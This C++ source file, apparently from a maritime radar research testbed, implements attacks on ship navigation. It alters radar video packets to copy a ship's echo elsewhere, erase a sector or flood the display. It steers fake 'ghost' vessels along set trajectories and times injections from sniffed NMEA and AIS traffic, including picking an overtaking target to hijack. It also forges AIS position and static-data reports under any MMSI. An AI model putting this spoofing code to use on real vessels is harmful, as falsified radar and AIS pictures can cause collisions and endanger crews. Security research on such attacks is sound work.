// Copyright 2026 The Radar Testbed Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.


#include "rtb/attack.hpp"

#include <algorithm>
#include <cmath>
#include <stdexcept>

namespace rtb {
namespace attack {

AnnulusSector find(double rho, double theta, double w, double h, double sm_pct) {
  if (rho == 0.0) return AnnulusSector{0.0, 360.0, 0.0, kUnbounded};
  const double r = std::sqrt(w * w + h * h) / 2.0;
  const double rs = r * (1.0 + sm_pct);
  const double phi = rad2deg(std::atan2(rs, rho));
  return AnnulusSector{c360(theta - phi), c360(theta + phi), std::max(0.0, rho - rs), rho + rs};
}

std::optional<VideoMessage> alter(const VideoMessage& pkt, const AnnulusSector& sector,
                                  const AlterFn& f) {
  return f(pkt, sector);
}

std::optional<VideoMessage> copy_ship(VideoMessage pkt, const AnnulusSector& sector, double o_a,
                                      double o_d) {
  if (!sector.covers_angles(pkt.start_az, azimuth_span(pkt))) return std::nullopt;
  const double len = cell_length(pkt.cell_dur);
  const auto io = static_cast<long long>(std::llround(o_d / len));
  const std::vector<std::uint32_t> cells = pkt.cells;
  const auto n = static_cast<long long>(pkt.n_cells);
  bool mod = false;
  for (long long i = 0; i < n; ++i) {
    const double rho_min = len * (static_cast<double>(i) + pkt.center_bias);
    const double rho_max = len * (static_cast<double>(i) + 1.0 + pkt.center_bias);
    if (rho_min >= sector.d_min && rho_max <= sector.d_max && i + io >= 0 && i + io < n) {
      pkt.cells[static_cast<std::size_t>(i + io)] = cells[static_cast<std::size_t>(i)];
      mod = true;
    }
  }
  if (!mod) return std::nullopt;
  pkt.start_az = c360(pkt.start_az + o_a);
  pkt.end_az = c360(pkt.end_az + o_a);
  return pkt;
}

std::optional<VideoMessage> delete_sector(VideoMessage pkt, const AnnulusSector& sector) {
  if (!sector.overlaps_angles(pkt.start_az, azimuth_span(pkt))) return std::nullopt;
  const double len = cell_length(pkt.cell_dur);
  const double lo = len * pkt.center_bias;
  const double hi = len * (static_cast<double>(pkt.center_bias) + pkt.n_cells);
  if (!sector.overlaps_range(lo, hi)) return std::nullopt;
  for (std::uint32_t i = 0; i < pkt.n_cells; ++i) {
    const double rho_min = len * (static_cast<double>(i) + pkt.center_bias);
    if (sector.overlaps_range(rho_min, rho_min + len)) pkt.cells[i] = 0;
  }
  pkt.center_bias += 1;
  if (pkt.n_cells > 1) {
    pkt.cells.erase(pkt.cells.begin());
    pkt.n_cells -= 1;
  }
  return pkt;
}

std::optional<VideoMessage> dos(VideoMessage pkt, int& counter, int k) {
  if (k < 1) throw std::invalid_argument("dos: k must be at least 1");
  if (pkt.cell_res > 32 || 32 % pkt.cell_res != 0)
    throw std::invalid_argument("dos: unsupported cell resolution");
  const std::uint32_t n = 32u / pkt.cell_res;
  pkt.start_az = 0.0;
  pkt.end_az = 0.0;  // 360 on the wire
  pkt.cell_dur = pkt.cell_dur * pkt.n_cells / n;
  pkt.n_cells = n;
  pkt.cells.assign(n, max_strength(pkt.cell_res));
  counter += 1;
  if (counter >= k) {
    counter = 0;
    return pkt;
  }
  return std::nullopt;
}

// ---- ghost kinematics ------------------------------------------------------

void Trajectory::initialize(GeoPosition o, double heading) {
  origin = o;
  absolute.clear();
  for (const PolarPoint& p : waypoints)
    absolute.push_back(p.range == 0.0 ? o : polar_to_geo(o, heading, p.range, p.bearing));
}

Trajectory ghost_trajectory() {
  Trajectory t;
  t.waypoints = {{5.44 * kMetersPerNm, 11.5}, {2.275 * kMetersPerNm, 28.5},
                 {1.9 * kMetersPerNm, 0.0}};
  t.speeds = {10.0, 10.0, 10.0};
  return t;
}

Trajectory hijack_trajectory() {
  Trajectory t;
  t.waypoints = {{0.0, 0.0}, {2372.0, 51.3}, {3810.0, 29.1}};
  t.speeds = {13.0, 13.0, 13.0};
  return t;
}

GhostController start_ghost(const Trajectory& t, double omega, double accel, double dt) {
  if (t.absolute.size() < 2) throw std::invalid_argument("trajectory needs two waypoints");
  GhostController c;
  c.x = t.absolute[0];
  c.cog = c360(geo::inverse(t.absolute[0], t.absolute[1]).azimuth);
  c.course_cmd = c.cog;
  c.sog = t.speeds[0];
  c.speed_cmd = t.speeds[0];
  c.omega = omega;
  c.accel = accel;
  c.dt = dt;
  c.next = 1;
  return c;
}

void ghost_step(GhostController& c) {
  c.x = geo::direct(c.x, c.cog, c.sog * kMpsPerKnot * c.dt);
  double dc = c.course_cmd - c.cog;
  if (dc < -180.0) dc += 360.0;
  else if (dc > 180.0) dc -= 360.0;
  // Saturated rather than pure on-off, so the course settles on C.
  const double turn = std::clamp(dc, -c.omega * c.dt, c.omega * c.dt);
  c.cog = c360(c.cog + turn);
  const double ds = std::clamp(c.speed_cmd - c.sog, -c.accel * c.dt, c.accel * c.dt);
  c.sog = std::max(0.0, c.sog + ds);
}

void steer(GhostController& c, const Trajectory& t) {
  while (c.next < t.absolute.size() &&
         geo::inverse(c.x, t.absolute[c.next]).distance <= c.capture_radius)
    ++c.next;
  if (c.next >= t.absolute.size()) return;
  c.course_cmd = c360(geo::inverse(c.x, t.absolute[c.next]).azimuth);
  c.speed_cmd = t.speeds[c.next];
}

// ---- state awareness -----------------------------------------------------

const char* to_string(Capability c) {
  switch (c) {
    case Capability::kUnknown: return "unknown";
    case Capability::kGranted: return "granted";
    case Capability::kDenied: return "denied";
  }
  return "?";
}

void state_awareness(ShipStateDb& db, const nmea::Sentence& s, Micros now) {
  db.clock = now;
  try {
    if (s.type_code == "GGA") {
      db.own.position = nmea::parse_gga(s).position;
      db.have_position = true;
    } else if (s.type_code == "GLL") {
      db.own.position = nmea::parse_gll(s).position;
      db.have_position = true;
    } else if (s.type_code == "THS" || s.type_code == "HDT") {
      const double h = s.type_code == "THS" ? nmea::parse_ths(s).heading : nmea::parse_hdt(s).heading;
      db.own.heading = h;
      db.own.cog = h;
      db.have_heading = true;
    } else if (s.type_code == "VHW") {
      db.own.sog = nmea::parse_vhw(s).speed_kn;
    } else if (ais::is_vdm(s)) {
      const auto r = db.assembler.push(s);
      if (!r) return;
      if (const auto* p = std::get_if<ais::PositionReport>(&*r)) {
        Contact& c = db.contacts[p->mmsi];
        c.state.position = {p->lat, p->lon};
        c.state.cog = p->cog;
        c.state.sog = p->sog;
        c.state.heading = std::isnan(p->heading) ? p->cog : p->heading;
        c.last_seen = now;
      } else if (const auto* d = std::get_if<ais::StaticData>(&*r)) {
        db.contacts[d->mmsi].dims = *d;
      }
    } else if (s.type_code == "TTM") {
      const auto t = nmea::parse_ttm(s);
      if (t.status == nmea::TargetStatus::kLost) db.arpa_targets.erase(t.target_id);
      else db.arpa_targets[t.target_id] = t;
    }
  } catch (const std::exception&) {
    // Unparseable traffic is ignored, like any other listener would.
  }
}

KinematicState contact_at(const Contact& c, Micros now) {
  return advance(c.state, to_seconds(now - c.last_seen));
}

namespace {

struct Seen {
  double range;     // meters
  double relative;  // degrees from own bow
};

std::vector<Seen> surroundings(const ShipStateDb& db, Micros now) {
  std::vector<Seen> out;
  for (const auto& [mmsi, c] : db.contacts) {
    if (c.last_seen == 0) continue;
    const Polar p = geo_to_polar(db.own.position, db.own.heading, contact_at(c, now).position);
    out.push_back({p.range, p.bearing});
  }
  return out;
}

}  // namespace

bool trigger_ghost(const ShipStateDb& db, Micros now, double radius_nm) {
  if (!db.have_position || !db.have_heading) return false;
  const double radius = radius_nm * kMetersPerNm;
  int near = 0;
  for (const Seen& s : surroundings(db, now)) {
    if (s.range > radius) continue;
    ++near;
    if (s.relative > 0.0 && s.relative < 90.0) return false;
  }
  for (const auto& [id, t] : db.arpa_targets) {
    const double rel = c360(t.bearing - db.own.heading);
    if (t.distance <= radius_nm && rel > 0.0 && rel < 90.0) return false;
  }
  return near >= 2;
}

std::optional<std::uint32_t> trigger_overtake(const ShipStateDb& db, Micros now,
                                              double radius_nm) {
  if (!db.have_position || !db.have_heading) return std::nullopt;
  std::optional<std::uint32_t> best;
  double best_rel = 1e9;
  for (const auto& [mmsi, c] : db.contacts) {
    if (c.last_seen == 0) continue;
    const KinematicState t = contact_at(c, now);
    if (t.sog >= db.own.sog) continue;
    const geo::Inverse inv = geo::inverse(db.own.position, t.position);
    if (inv.distance > radius_nm * kMetersPerNm) continue;
    // Rule 13: we come up from more than 22.5 degrees abaft its beam.
    const double back = c360(inv.azimuth + 180.0);
    const double from_target = c360(back - t.heading);
    if (from_target <= 112.5 || from_target >= 247.5) continue;
    const double rel = std::fabs(angle_diff(inv.azimuth, db.own.heading));
    if (rel < best_rel) {
      best_rel = rel;
      best = mmsi;
    }
  }
  return best;
}

std::vector<nmea::Sentence> ais_creator(std::uint32_t mmsi, const GeoPosition& x, double cog,
                                        double sog, Micros now,
                                        const std::optional<ais::StaticData>& dims) {
  ais::PositionReport r;
  r.mmsi = mmsi;
  r.lat = x.lat;
  r.lon = x.lon;
  r.sog = std::min(sog, 102.2);
  r.cog = cog;
  r.heading = std::fmod(std::round(cog), 360.0);
  r.timestamp_s = static_cast<int>(std::fmod(to_seconds(now), 60.0));
  std::vector<nmea::Sentence> out = ais::encode_vdm(r);
  if (dims) {
    ais::StaticData d = *dims;
    d.mmsi = mmsi;
    for (auto& s : ais::encode_vdm(d, 7)) out.push_back(std::move(s));
  }
  return out;
}

}  // namespace attack
}  // namespace rtb
